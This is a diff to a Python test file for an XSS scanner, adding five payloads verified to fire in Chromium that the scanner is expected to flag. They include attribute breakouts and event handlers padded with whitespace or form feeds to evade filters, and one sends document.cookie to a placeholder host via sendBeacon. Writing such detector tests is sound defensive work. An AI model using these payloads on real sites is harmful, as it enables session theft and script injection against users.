@@ -292,3 +292,18 @@ def test_string_literals_joined_in_javascript_are_read_as_the_string_they_make(p
 @pytest.mark.parametrize("value", ["x = 'Hello ' + 'world'", "price: '5' + '3' = 8", "'O' + 'Brien' said"])
 def test_joined_strings_that_make_no_script_pass(value: str) -> None:
     assert xss.scan(value, CTX) is None
+
+
+# Each fired in Chromium with no user interaction, in the context named.
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<video onloadstart" + " " * 16 + "=" + " " * 16 + "Reflect.apply(alert,window,[1]) src" + " " * 16 + "=x>",
+        '"><svg  onload         =/**/(0,alert)(1)>',  # any run of blanks around "=" (body, attribute breakout)
+        "<details open ontoggle" + "\x0c" * 9 + "=\"navigator.sendBeacon('//x.example/b',document.cookie)\">",
+        '" autofocus onfocus="new Proxy(alert,{})(1)" x="',  # handler code opening with new/void
+        "' autofocus onfocus='void Reflect.apply(alert,0,[1])' x='",
+    ],
+)
+def test_handlers_that_fired_in_a_browser(payload: str) -> None:
+    assert xss.scan(payload, CTX) is not None, payload
